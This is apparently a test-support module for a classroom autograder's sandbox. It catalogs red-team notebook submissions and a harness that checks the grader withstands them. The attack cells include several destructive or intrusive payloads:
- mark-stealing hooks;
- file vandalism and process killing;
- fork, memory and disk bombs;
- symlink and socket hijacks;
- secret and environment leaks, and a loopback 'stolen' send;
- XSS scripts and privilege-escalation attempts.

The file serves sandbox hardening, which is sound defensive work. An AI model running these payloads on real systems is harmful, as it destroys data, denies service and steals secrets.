"""The red-team catalog: what a hostile student could hand in, written as they would write it.

Each attack is notebook 01 with the attack's cells put in after the set-up cell, plus files handed in
beside it. The notebook is either the release as handed out (`base="untouched"`, honest score 0) or
a cheater's (`base="cheater"`): MakeSchedule and its plot solved, a ForwardMaskFast that passes every
visible test but not the hidden law, and the rest left as the release's stubs (honest score 5 of 16), so
that an attack on the hidden tests has marks to steal, and the notebook's costly checks and drawings
(ForwardMask's laws and the three drawings after it, about 6 s of each notebook under CI's load) fail at
once. tests/course/sandbox/test_red_team.py grades every attack in one batch through the CLI, beside
honest students, and checks that no attack steals a mark, touches another
student, the course or the gradebook, outlives the batch, reaches the network, or leaks the hidden
tests, the solutions or the grader's secrets into feedback.

`{port}`, `{secret_file}` and `{secret_env}` in an attack's code are filled in by the test: a TCP
server on the grading machine's loopback, a file only the grader can see, and an environment
variable of the grader's process. `{other_workspace}` and `{other_tmp}` are those of a second grader
grading an honest batch on the same machine at the same time (`run(..., beside=...)`), for the
attacks of AGAINST_THE_OTHER_GRADER.
"""
import csv
import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from maskdiff_solutions.course.intake import notebooks
from maskdiff_solutions.course.term.demo import solved, with_answer
from maskdiff_solutions.course.layout import PACKAGE_PARENT
from tests.support.roots import with_nbgrader_lines
from maskdiff_solutions.course.records.rows import CSV_NAME
from maskdiff_solutions.course.sandbox.settings import UIDS

NB = "01_noise_for_words.ipynb"


@dataclass(frozen=True)
class Attack:
    name: str
    what: str                      # the attack class, in words (for the closing table)
    cells: tuple                   # code cells put after the set-up cell
    status: tuple = ("graded", "flagged")   # statuses the notebook may end with
    files: dict = field(default_factory=dict)  # other files handed in: path -> text, or ("link", target)
    note: str = ""                 # what grading must say in the row's reason, if anything
    base: str = "untouched"        # or "cheater"
    keeps_honest: bool = False     # the hidden checks still run: exactly the honest score, not less
    tells: str = ""                # what the attack prints only if it worked (must not appear)
    manual_outputs: tuple = ()     # outputs (JSON) handed in on every code cell the student writes
    answer: str = ""               # the text handed in for every written answer
    # Python tricks that stay inside the kernel's interpreter (hooks, patches, frames): what reaches the
    # grader is the kernel's messages and the checker's record, handled the same whoever grades, so
    # the ordinary user's leg (.ci/unprivileged) leaves them to the root leg. Anything that touches
    # files, processes, signals, memory, the network, sockets or privileges is graded in both.
    inside: bool = False


# The cheater's ForwardMaskFast: the right share of masks on average, but always exactly that many.
CHEATER = ("ForwardMaskFast", """
def ForwardMaskFast(x_0, t, alpha_bar):
    x = x_0.clone()
    n = round(float(1 - alpha_bar[t]) * len(x))
    x[torch.randperm(len(x))[:n]] = MASK
    return x
""")


def _test_points(grade_ids=None):
    """Points of notebook 01's test cells in the release (all of them, or those named)."""
    release = notebooks.read(Path(__file__).resolve().parents[1] / "release" / "maskdiff" / NB)
    return float(sum(notebooks.nbgrader(c)["points"] for c in release.cells if notebooks.is_test(c)
                     and (grade_ids is None or notebooks.grade_id(c) in grade_ids)))


FULL = _test_points()   # the honest reference's autograded marks
# The cheater's notebook: the release, with MakeSchedule and its plot solved as the reference solves them and
# ForwardMaskFast the cheater's; every other cell is the release's stub, which raises at once (a traceback
# through a stub shows the release's lines, never a solution's). It keeps MakeSchedule's tests and plot and
# the visible rules of its ForwardMaskFast; its law fails, as does everything left as the stub.
CHEATER_SOLVED = {"MakeSchedule", "plot_schedule"}
CHEATER_KEEPS = {"test_MakeSchedule", "test_plot_schedule", "test_ForwardMaskFast_basics"}
HONEST = {"untouched": 0.0, "cheater": _test_points(CHEATER_KEEPS)}
# What a script in a page would do if it ran; never anywhere a browser acts on it.
PWNED = "PWNED"
ACTIVE_OUTPUTS = (
    {"output_type": "display_data", "metadata": {},
     "data": {"text/html": f"<script>document.title='{PWNED}-html'</script>", "text/plain": "html"}},
    {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": f"document.title='{PWNED}-js'"}},
    {"output_type": "display_data", "metadata": {},
     "data": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='{PWNED}-svg'\"/>"}},
    {"output_type": "display_data", "metadata": {"filenames": {"image/png": f"/{PWNED}"}},
     "data": {"image/png": f"x\" onerror=\"document.title='{PWNED}-png'"}},
    {"output_type": "display_data", "metadata": {},
     "data": {"text/markdown": f"[click](javascript:document.title='{PWNED}-md')"}},
)


ATTACKS = [
    # ---------------------------------------------------------------- stealing marks in-process
    Attack("input_transformer", "hide every later cell's errors with an IPython input transformer", ("""
def _swallow(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\n    pass\\nexcept BaseException:\\n    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", keeps_honest=True, inside=True),
    Attack("ast_transformer", "wrap every later cell in try/except with an AST transformer", ("""
import ast
class Forgive(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Forgive())
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", keeps_honest=True, inside=True),
    Attack("custom_exc", "clear errors with set_custom_exc and a post_run_cell hook", ("""
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
def _clean(result):
    result.error_in_exec = None
ip.events.register("post_run_cell", _clean)
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", keeps_honest=True, inside=True),
    Attack("fake_grading_module", "plant a no-op maskdiff_solutions.grading and drop the checker's address", ("""
import os, sys, types
os.environ.pop("MASKDIFF_CHECKER", None)
fake = types.ModuleType("maskdiff_solutions"); fake.__path__ = []
grading = types.ModuleType("maskdiff_solutions.grading"); grading.run = lambda name, *f: print(f"[{name}] passed")
fake.grading = grading
sys.modules["maskdiff_solutions"], sys.modules["maskdiff_solutions.grading"] = fake, grading
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", inside=True),
    Attack("patch_client", "replace run_check with one that prints success", ("""
import maskdiff_client
maskdiff_client.run_check = lambda name, *functions: print(f"[{name}] passed")
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", inside=True),
    Attack("claim_review", "replace run_check with one that shows every check as sent to a person (a review)", ("""
import maskdiff_client
maskdiff_client.run_check = lambda name, *functions: maskdiff_client.show_verdict(name, False, True, "unsure")
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", inside=True),
    Attack("forge_drawings", "forge what the drawing cells drew: the record's reader, plotly's show and the charts "
           "recorded, with perfect curves written out by hand and garbage the checker must survive", ("""
import math
import maskdiff_client
from maskdiff_client import drawn
T = 50
LAW = [1 - t / T for t in range(T + 1)]
BETA = [0.0] + [1 / (T - t + 1) for t in range(1, T + 1)]
PERFECT = {"suptitle": "", "axes": [{"xlabel": "t", "ylabel": "probability", "xscale": "linear", "yscale": "linear",
           "title": "", "legend": ["beta_t", "alpha_bar_t", "1 - t/T"],
           "lines": [{"x": list(range(T + 1)), "y": BETA, "label": "beta_t"},
                     {"x": list(range(T + 1)), "y": LAW, "label": "alpha_bar_t"},
                     {"x": list(range(T + 1)), "y": LAW, "label": "1 - t/T"}]}]}
GARBAGE = [{"axes": math.nan}, {"axes": [{"lines": [{"x": "x" * 1_000_000, "y": None}]}]},
           {"axes": [{"lines": [{"x": [1e308] * 10, "y": [math.inf] * 10}], "bars": {"not": "a list"}}]},
           [[[]]], "a figure", {"axes": [{"steps": [{"x": list(range(10)), "y": [-1] * 9}]}] * 500}]
class Forged(drawn.Cell):   # the recorder's own class, so the driver takes it
    def data(self):
        return {"figures": [PERFECT] + GARBAGE, "printed": "t=0 the cat is alive\\n" * 20000, "rich": [], "error": None}
maskdiff_client.drawn_cell = drawn.drawn_cell = lambda *args, **kwargs: Forged("plot_schedule")
maskdiff_client.last_cell = drawn.last_cell = lambda *args, **kwargs: Forged("plot_schedule")
try:
    import plotly.basedatatypes as base
    base.BaseFigure.show = lambda self, *args, **kwargs: drawn._current.charts.extend([PERFECT] + GARBAGE)
except ImportError:
    pass
print("FORGED DRAWINGS IN PLACE")
""", """
import plotly.graph_objects as go
fig = go.Figure()
fig.add_scatter(x=list(range(300_000)), y=[math.nan] * 300_000, name="beta_t")
fig.update_layout(xaxis_title="t", yaxis_title="probability")
fig.show()
"""), base="untouched", status=("flagged",), note="the checker could not judge this check", inside=True),
    Attack("thread_patcher", "a background thread that keeps patching the client and the graded functions", ("""
import threading, time, maskdiff_client
def _patch():
    while True:
        maskdiff_client.run_check = lambda name, *f: print(f"[{name}] passed")
        time.sleep(0.01)
threading.Thread(target=_patch, daemon=True).start()
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", inside=True),
    Attack("import_hidden_dynamically", "import the hidden package under a name no scan recognises", ("""
import importlib, base64
name = base64.b64decode("bWFza2RpZmZfc29sdXRpb25z").decode()
try:
    ref = importlib.import_module(name)
    for f in ("MakeSchedule", "ForwardMask", "ForwardMaskFast"):
        globals()[f] = getattr(ref, f)
    print("IMPORTED THE HIDDEN PACKAGE")
except ImportError as err:
    print("no luck:", err)
""",), base="cheater", keeps_honest=True, tells="IMPORTED THE HIDDEN PACKAGE"),
    Attack("search_for_solutions", "search the whole file system for the course's solutions", ("""
import os, time, json
marker = "### BEGIN " + "SOLUTION"          # spelled so that this cell does not match itself
found, started = [], time.time()
for top in ("/", "/opt", "/home", "/tmp", "/run", "/root", "/work", "/srv", "/var"):
    for folder, dirs, files in os.walk(top):
        if time.time() - started > 12:
            break
        if "maskdiff_solutions" in dirs:
            found.append(os.path.join(folder, "maskdiff_solutions"))
        for name in files:
            if name.endswith((".ipynb", ".py")) and not folder.startswith(("/handin", "/home/student")):
                try:
                    text = open(os.path.join(folder, name), errors="ignore").read()
                except OSError:
                    continue
                if marker in text and "ForwardMaskFast" in text:
                    found.append(os.path.join(folder, name))
print("FOUND COURSE SOLUTIONS" if found else "found nothing", found[:5])
for path in found:
    if path.endswith(".ipynb"):
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            if "def ForwardMaskFast" in text:
                exec(text.replace(marker, "").replace("### END " + "SOLUTION", ""))
""",), base="cheater", tells="FOUND COURSE SOLUTIONS"),
    Attack("forge_checker_messages", "talk to the checker directly: forged verdicts, unknown and out-of-order checks, garbage",
           ("""
import os, socket, struct, json
path = os.environ.get("MASKDIFF_CHECKER", "/run/maskdiff/c.sock")
def frame(obj):
    data = json.dumps(obj).encode()
    return struct.pack("!Q", len(data)) + data
for message in ({"op": "verdict", "passed": True, "message": ""},
                {"op": "check", "protocol": 1, "name": "ForwardMaskFast.law", "functions": [1]},
                {"op": "check", "protocol": 1, "name": "MakeSchedule", "functions": [{"~": "ref", "side": "checker", "id": 1}]},
                {"op": "return", "re": 1, "value": True}):
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect(path)
        s.sendall(frame(message) + b"\\x00" * 16 + struct.pack("!Q", 1 << 40))
        print(s.recv(4096)[:200])
        s.close()
    except OSError as err:
        print("checker:", err)
""",), status=("flagged",), note="checker:"),
    Attack("inspect_the_caller", "look through the calling frames for the expected answers", ("""
import sys
def MakeSchedule(T):
    frame, found = sys._getframe(1), None
    while frame is not None:
        for name, value in {**frame.f_locals, **frame.f_globals}.items():
            if name in ("want", "want_beta", "expected", "reference_schedule"):
                found = value
        frame = frame.f_back
    if callable(found):
        return found(T)
    raise NotImplementedError(f"nothing found")
""",), inside=True),
    # ---------------------------------------------------------------- harming others and the course
    Attack("vandalise_everything", "write, delete and rename everything reachable, the course included", ("""
import os, shutil, time
hits, started = [], time.time()
for top in ("/opt/maskdiff", "/run/maskdiff", "/handin", "/work", "/root", "/etc", "/usr", "/tmp", "/home"):
    for folder, dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                with open(path, "a") as handle:
                    handle.write("# owned\\n")
                hits.append(path)
            except OSError:
                pass
        if len(hits) > 2000 or time.time() - started > 10:   # then on to the deleting, inside the cell's time
            break
print(len(hits), "files written, e.g.", [h for h in hits if not h.startswith(("/tmp", "/home"))][:5])
shutil.rmtree("/opt/maskdiff", ignore_errors=True)
""",)),
    Attack("kill_the_grader", "kill the parent, the process group and every process it can signal", ("""
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as err:
        print(pid, err)
try:
    os.killpg(0, signal.SIGKILL)
except OSError as err:
    print(err)
os.kill(-1, signal.SIGKILL)
""",), status=("flagged",), note="the kernel died"),
    Attack("daemon", "leave detached processes that outlive the notebook and rewrite results later", ("""
import os, time, subprocess
for _ in range(20):
    subprocess.Popen(["sh", "-c", "sleep 600 & sleep 600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for path in ("../grades-by-notebook.csv", "/tmp/grades-by-notebook.csv", "../grades.csv"):
                try:
                    open(path, "a").write("attacker,01,graded,9,9\\n")
                except OSError:
                    pass
            time.sleep(1)
    os._exit(0)
""",)),
    Attack("fork_bomb", "fork until the machine gives up", ("""
import os, time
children = 0
try:
    while children < 5000:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as err:
    print("stopped after", children, "children:", err)
""",)),
    Attack("memory_bomb", "allocate and touch memory until something breaks", ("""
chunks = []
try:
    for _ in range(400):
        chunks.append(bytearray(64 << 20))  # touched: bytearray zero-fills
except MemoryError:
    print("MemoryError after", len(chunks) * 64, "MB")
del chunks
""",), status=("graded", "flagged")),
    Attack("disk_bomb", "fill the disk", ("""
import os
written = 0
try:
    for i in range(10000):
        with open(f"filler{i}", "wb") as handle:
            handle.write(b"x" * (64 << 20))
        written += 64
except OSError as err:
    print("stopped after", written, "MB:", err)
""",)),
    Attack("symlink_notebook", "swap the graded notebook and folder for links into the grader's files", ("""
import os
for name in ("01_noise_for_words.ipynb", "../01_noise_for_words.ipynb"):
    try:
        os.remove(name)
    except OSError:
        pass
    try:
        os.symlink("/etc/passwd", name)
    except OSError as err:
        print(err)
os.symlink("/", "root_link")
""",)),
    Attack("linked_files_in_submission", "hand in links to the course's solutions and the gradebook", ("""
import os
for name in ("solutions.ipynb", "gradebook.db", "secret.txt"):
    try:
        print(name, open(name).read()[:3000])
    except OSError as err:
        print(name, err)
""",), files={"solutions.ipynb": ("link", "{course}/source/maskdiff/01_noise_for_words.ipynb"),
             "gradebook.db": ("link", "{course}/gradebook.db"),
             "secret.txt": ("link", "{secret_file}")}),
    Attack("network", "reach the grading machine's services and the outside world", ("""
import socket
for host, port in (("127.0.0.1", {port}), ("localhost", {port})):
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"stolen")
        print("REACHED THE GRADING MACHINE", host, port)
    except OSError as err:
        print(host, port, err)
try:
    socket.getaddrinfo("pypi.org", 443)
    print("REACHED THE GRADING MACHINE: resolved pypi.org")
except OSError as err:
    print("dns:", err)
""",), tells="REACHED THE GRADING MACHINE"),
    Attack("leak_into_feedback", "print the hidden tests, the grader's environment and files into feedback", ("""
import os, glob
print(os.environ)
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["{secret_file}"]:
    try:
        print(path, open(path, "rb").read()[:2000])
    except OSError:
        pass
""", """
print(In)
print(_ih)
import sys
print([m for m in sys.modules if "mask" in m])
"""), note=""),
    Attack("huge_outputs", "flood the feedback: a 100 MB error, a 100 MB image, a million outputs", ("""
import base64
from IPython.display import Image, display
display({"image/png": base64.b64encode(b"\\x89PNG" + b"0" * (75 << 20)).decode()}, raw=True)
for i in range(20000):
    print(i)
""", """
raise ValueError("x" * (100 << 20))
"""), status=("graded", "flagged")),
    Attack("raw_iopub_flood", "send the grader giant messages straight through the kernel's sockets", ("""
kernel = get_ipython().kernel
for _ in range(3):
    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "y" * (200 << 20)},
                        parent=kernel.get_parent("shell"))
print("sent")
""",), status=("graded", "flagged")),
    Attack("ignore_interrupts", "a loop that ignores SIGINT", ("""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",), status=("flagged",), note="ignored the interrupt"),
    Attack("script_in_the_page", "scripts for the grader's browser: in the re-run's outputs, in the outputs "
           "and the written answer handed in", ("""
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>document.title='PWNED-html'</script><img src=x onerror=\\"document.title='PWNED-img'\\">"))
display(Javascript("document.title='PWNED-js'"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title='PWNED-svg'\\"/>"))
display(Markdown("[click](javascript:document.title='PWNED-md')"))
display({"image/png": "x\\" onerror=\\"document.title='PWNED-png'"}, raw=True)
""",), manual_outputs=ACTIVE_OUTPUTS,
           answer="<img src=x onerror=\"document.title='PWNED-answer'\"> [x](javascript:document.title='PWNED-link')"),
    Attack("become_root", "regain privileges: setuid, new namespaces, mounts, ptrace", ("""
import os, subprocess
for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/")):
    try:
        attempt(); print("BECAME ROOT")
    except OSError as err:
        print(err)
for command in (["unshare", "-r", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"], ["su", "-c", "id"]):
    try:
        print(subprocess.run(command, capture_output=True, text=True, timeout=10).stderr[:200])
    except (OSError, subprocess.SubprocessError) as err:
        print(err)
""",), tells="BECAME ROOT"),
    Attack("swap_kernel_sockets", "replace the kernel's own sockets with links, to redirect the grader", ("""
import os, ipykernel
folder = os.path.dirname(ipykernel.get_connection_file())
for name in sorted(os.listdir(folder)):
    path = os.path.join(folder, name)
    try:
        os.rename(path, path + ".old")
        os.symlink("/run/maskdiff/c.sock", path)
        print("SWAPPED", name)
    except OSError as err:
        print(name, err)
try:
    open(os.path.join(folder, "planted"), "w").write("x")
    print("SWAPPED: planted a file")
except OSError as err:
    print(err)
""",), tells="SWAPPED"),
]

# Attacks on a second grader that grades another batch on the same machine at the same time (two
# instructors, two Slurm jobs): graded only when there is one (run(..., beside=...)). This one knows
# the other grader's workspace and TMPDIR (the worst case) and keeps trying for 20 s, while the other
# grader's kernels run: kill its processes, read and write its files, plant one in each of its folders.
PLANTED = "planted-by-attack"
AGAINST_THE_OTHER_GRADER = [
    Attack("attack_the_other_grader", "kill the kernels of another grader grading at the same time, read and "
           "write its workspace and TMPDIR", ("""
import glob, os, signal, time
other = ["{other_workspace}", "{other_tmp}"]
started, touched = time.time(), []

def attack(seconds):
    until = time.time() + seconds
    while time.time() < until:
        for proc in glob.glob("/proc/[0-9]*"):          # its grader and kernels name its folders
            pid = int(proc.rsplit("/", 1)[1])
            try:
                seen = open(proc + "/cmdline", "rb").read() + open(proc + "/environ", "rb").read()
            except OSError:
                continue
            if pid != os.getpid() and any(folder.encode() in seen for folder in other):
                try:
                    os.kill(pid, signal.SIGKILL)
                    touched.append(f"killed {pid}")
                except OSError:
                    pass
        try:
            os.kill(-1, signal.SIGKILL)                  # everything else it may signal
        except OSError:
            pass
        for top in other:
            for folder, dirs, files in os.walk(top):
                try:
                    open(os.path.join(folder, "planted-by-attack"), "w").write("owned")
                    touched.append("planted in " + folder)
                except OSError:
                    pass
                for name in files:
                    path = os.path.join(folder, name)
                    try:
                        open(path, "rb").read(4096)
                        open(path, "ab").write(b"owned")
                        touched.append("wrote " + path)
                    except OSError:
                        pass
        time.sleep(0.25)   # gentle on the cores: the other grader's cells must keep their time
attack(10)   # 20 s in all, in two cells of 10: each ends inside the red team's 15 s cell limit
""", """
attack(10)
print(f"attack from {started:.3f} to {time.time():.3f}")
print("TOUCHED THE OTHER GRADER" if touched else "the other grader was out of reach", touched[:5])
"""), tells="TOUCHED THE OTHER GRADER"),
]

# Handed in as notebook 02 beside an honest notebook 01: each must fail alone, with a reason that
# helps, and never spoil the honest notebook.
BROKEN_FILES = {
    "recursion_bomb": ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    "nbformat_3": ('{"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}',
                   "format 3"),
}


def build(course, collected, fill, attacks=ATTACKS, everyone=True):
    """collected/<student>/ for each attack of `attacks` and (everyone) the honest students, the broken
    files and the links to the course; `fill` gives {port}, {secret_file}, {secret_env}, {course} (and
    {other_workspace}, {other_tmp}) for the attacks' code and links."""
    def base(kind):
        nb = notebooks.read(course.release_dir / NB)
        if kind == "untouched":
            return nb
        answers = solved(notebooks.read(course.source_dir / NB), notebooks.read(course.release_dir / NB))
        for cell in answers.cells:
            if notebooks.grade_id(cell) in CHEATER_SOLVED:
                with_answer(nb, notebooks.grade_id(cell), cell.source)
        return with_answer(nb, CHEATER[0], CHEATER[1])

    def filled(text):
        for key, value in fill.items():
            text = text.replace("{" + key + "}", value)
        return text

    def hand_in(student, nb, files=None):
        (collected / student).mkdir(parents=True)
        if nb is not None:
            notebooks.write(nb, collected / student / NB)
        for name, content in (files or {}).items():
            path = collected / student / name
            if isinstance(content, tuple):
                os.symlink(filled(content[1]), path)
            else:
                path.write_text(content)

    reference = solved(notebooks.read(course.source_dir / NB), notebooks.read(course.release_dir / NB))
    for attack in attacks:
        nb = base(attack.base)
        at = next(i for i, c in enumerate(nb.cells) if notebooks.grade_id(c) == "setup") + 1
        for offset, code in enumerate(attack.cells):
            nb.cells.insert(at + offset, new_code_cell(filled(code).strip("\n")))
        for cell in nb.cells:
            if notebooks.is_solution(cell) and cell.cell_type == "code" and attack.manual_outputs:
                cell.outputs = [nbformat.from_dict(output) for output in attack.manual_outputs]
            if notebooks.is_manual(cell) and cell.cell_type == "markdown" and attack.answer:
                cell.source = attack.answer
        hand_in(attack.name, None if NB in attack.files else nb, attack.files)
    if not everyone:
        return sorted(p.name for p in collected.iterdir())
    hand_in("honest_reference", reference)
    hand_in("honest_untouched", base("untouched"))
    hand_in("honest_cheater", base("cheater"))
    for name, (content, _) in BROKEN_FILES.items():
        hand_in(name, reference, {"02_undiffusing.ipynb": content})
    hand_in("link_to_solutions", None, {NB: ("link", "{course}/source/maskdiff/" + NB)})
    hand_in("linked_solutions_folder", base("untouched"), {"course": ("link", "{course}/source/maskdiff")})
    return sorted(p.name for p in collected.iterdir())


# ------------------------------------------------------------------------ grading the batch

# small enough that the memory and disk bombs end fast on a shared machine
LIMITS = {"memory_mb": 2048, "address_space_mb": 12288, "home_mb": 512, "tmp_mb": 256, "processes": 256}


class Listener:
    """A TCP server on this machine's loopback that counts whoever reaches it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port, self.reached, self.stop = self.server.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                connection, address = self.server.accept()
                self.reached.append(address)
                connection.close()
            except OSError:
                continue

    def close(self):
        self.stop = True
        self.thread.join()
        self.server.close()


def fingerprint(paths):
    digest = {}
    for top in paths:
        for path in sorted(Path(top).rglob("*")) if Path(top).is_dir() else [Path(top)]:
            if path.is_file() and "__pycache__" not in path.parts and not path.is_symlink():
                digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


def course_files(root):
    """The course being graded (it may be a copy: `with_cell_limit`) and the packages that grade it."""
    return [root / "source", root / "release", PACKAGE_PARENT / "maskdiff_solutions",
            PACKAGE_PARENT / "maskdiff_client", root / "nbgrader_config.py", root / "pyproject.toml"]


# Attacks that run until they are stopped (a loop that ignores the interrupt, the floods) hold a job for
# the whole cell limit, in each of CI's two red-team legs; notebook 01's honest cells take a few seconds
# at most, under load too.
CELL_SECONDS = 15


def with_cell_limit(course, folder, seconds=CELL_SECONDS):
    """A copy of the course in `folder` (its settings, source and release) whose cells may each run
    `seconds`, the course's nbgrader_config.py with one more line; a Course."""
    return with_nbgrader_lines(course, folder, [f"c.Execute.timeout = {seconds}"],
                               "the red team's copy (tests/attacks.py)")


def _status(pid):
    """(name, parent pid, real uid) of a process, or None once it has gone."""
    try:
        fields = dict(line.split(":", 1) for line in (Path("/proc") / str(pid) / "status").read_text().splitlines()
                      if ":" in line)
        return fields["Name"].strip(), int(fields["PPid"]), int(fields["Uid"].split()[0])
    except (OSError, KeyError, ValueError):
        return None


def _inside_a_live_sandbox(pid):
    """True when a process runs under a bubblewrap (the grader's, not a sandbox user's process named so)
    that another grader still holds (its parent is alive and not init): another batch's kernel on a
    shared machine, not something this batch left behind. After our batch every bwrap of ours has
    ended, or been orphaned to init, which counts as left."""
    seen = set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        status = _status(pid)
        if status is None:
            return False
        name, parent, uid = status
        if name == "bwrap" and uid not in UIDS:  # the grader's bwrap: a student may name a process so too
            return parent > 1 and _status(parent) is not None
        pid = parent
    return False


def sandbox_processes():
    """Processes of sandbox users left running after the batch (other graders' live sandboxes excluded)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            status = _status(entry.name)
            if status and status[2] in UIDS and not _inside_a_live_sandbox(int(entry.name)):
                found.append(entry.name)
    return found


class Sibling:
    """A second grader on the same machine, started just before the hostile batch: its own TMPDIR and
    workspace, an honest batch (`collected`, notebook 01, the sandbox by default, as an instructor
    grades). It notes when its kernels' folders exist, to show they were alive during the attacks."""

    def __init__(self, root, collected, folder):
        self.workspace, self.tmp, self.log = folder / "sibling-workspace", folder / "sibling-tmp", folder / "sibling.log"
        self.tmp.mkdir(parents=True)
        self.kernels_alive, self._stop = [], threading.Event()
        with open(self.log, "w") as log:  # a file, not a pipe: nobody reads it until the end
            self.process = subprocess.Popen(
                [sys.executable, "-m", "maskdiff_solutions", "--course-dir", str(root), "grade", str(collected),
                 "--workspace", str(self.workspace), "--notebook", "01", "--no-canary"],
                env={**os.environ, "TMPDIR": str(self.tmp)}, stdout=log, stderr=log)
        self._watch = threading.Thread(target=self._watch_kernels, daemon=True)
        self._watch.start()

    def _watch_kernels(self):
        while not self._stop.is_set():
            if any(self.tmp.glob("mdk-*")):
                self.kernels_alive.append(time.time())
            time.sleep(0.2)

    def finish(self):
        try:
            self.process.wait(timeout=1800)
        finally:
            self._stop.set()
            self._watch.join()
        return dict(returncode=self.process.returncode, log=self.log.read_text(errors="replace"),
                    workspace=self.workspace, tmp=self.tmp, kernels_alive=self.kernels_alive,
                    planted=sorted(str(p) for top in (self.workspace, self.tmp) for p in top.rglob(f"*{PLANTED}*")))


def run(course, folder, jobs=2, attacks=ATTACKS, everyone=True, beside=None):
    """Grade the batch (each attack of `attacks`; with everyone, the honest and awkward students too)
    through the command line in a sandbox; returns what the red-team tests look at (rows of the grades
    CSV, the course's and the handed-in files' fingerprints before and after, leftover processes,
    connections to the loopback server, the secrets). beside: a folder of honest submissions that a
    second grader (Sibling) grades at the same time; what it did comes back as "sibling"."""
    root = Path(course.root)
    collected, workspace = folder / "collected", folder / "workspace"
    listener = Listener()
    secret_file = Path("/tmp") / f"maskdiff-redteam-{secrets.token_hex(4)}.txt"
    secret_file.write_text(f"GRADER-ONLY {secrets.token_hex(16)}")
    secret_env = secrets.token_hex(16)
    fill = {"port": str(listener.port), "secret_file": str(secret_file), "secret_env": "MASKDIFF_REDTEAM_SECRET",
            "course": str(root), "other_workspace": str(folder / "sibling-workspace"),
            "other_tmp": str(folder / "sibling-tmp")}
    students = build(course, collected, fill, attacks, everyone)
    before, handed_in = fingerprint(course_files(root)), fingerprint([collected])
    env = {**os.environ, fill["secret_env"]: secret_env, "MASKDIFF_SANDBOX_LIMITS": json.dumps(LIMITS)}
    sibling = Sibling(root, beside, folder) if beside is not None else None
    started = time.perf_counter()
    try:
        done = subprocess.run([sys.executable, "-m", "maskdiff_solutions", "--course-dir", str(root), "grade",
                               str(collected), "--workspace", str(workspace), "--jobs", str(jobs),
                               "--sandbox", "required", "--no-canary"], capture_output=True, text=True, env=env,
                              timeout=1800)
        seconds = time.perf_counter() - started
    finally:
        beside_result = sibling.finish() if sibling else None
    together = time.perf_counter() - started
    time.sleep(2)  # anything left behind would act now
    leftovers = sandbox_processes()
    listener.close()
    rows = {}
    if (workspace / CSV_NAME).is_file():
        with open(workspace / CSV_NAME) as handle:
            rows = {(r["student"], r["notebook"]): r for r in csv.DictReader(handle)}
    return dict(done=done, rows=rows, students=students, workspace=workspace, collected=collected,
                before=before, after=fingerprint(course_files(root)), handed_in=handed_in,
                handed_in_after=fingerprint([collected]), leftovers=leftovers, reached=listener.reached,
                secret_file=secret_file, secret_env=secret_env, seconds=seconds, sibling=beside_result,
                together=together)
